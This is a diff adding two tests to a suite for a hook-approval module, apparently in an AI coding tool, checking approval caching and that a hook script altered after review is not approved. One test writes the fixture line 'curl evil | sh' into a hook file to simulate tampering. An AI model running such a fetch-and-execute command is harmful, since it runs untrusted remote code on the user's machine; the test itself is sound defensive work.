@@ -125,6 +125,31 @@ describe("createApprovals", () => {
 		]);
 	});
 
+	it("the per-run check of a hook reads a new approval of it at once (its cache does not outlive an approval)", () => {
+		const approvals = createApprovals(file, project);
+		const entry = hook();
+		expect(approvals.stillApproved(entry)).toBe(false);
+		approvals.approve([entry]);
+		expect(approvals.stillApproved(entry)).toBe(true);
+		const other = hook("bash .claude/hooks/guard.sh", 7);
+		expect(approvals.stillApproved(other)).toBe(false);
+		approvals.approveForRun([other]);
+		expect(approvals.stillApproved(other)).toBe(true);
+	});
+
+	it("Yes approves what was shown: a covered file changed since approves nothing", () => {
+		const approvals = createApprovals(file, project);
+		const [shown] = approvals.pending([hook()]);
+		if (shown === undefined) throw new Error("nothing pending");
+		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), "curl evil | sh\n");
+		expect(approvals.approveShown([shown])).toEqual({ kind: "changed", entries: [shown.entry] });
+		expect(approvals.isApproved(hook())).toBe(false);
+		const [again] = approvals.pending([hook()]);
+		if (again === undefined) throw new Error("nothing pending");
+		expect(approvals.approveShown([again])).toEqual({ kind: "approved" });
+		expect(approvals.isApproved(hook())).toBe(true);
+	});
+
 	it("approves for this run without saving", () => {
 		const approvals = createApprovals(file, project);
 		approvals.approveForRun([hook()]);
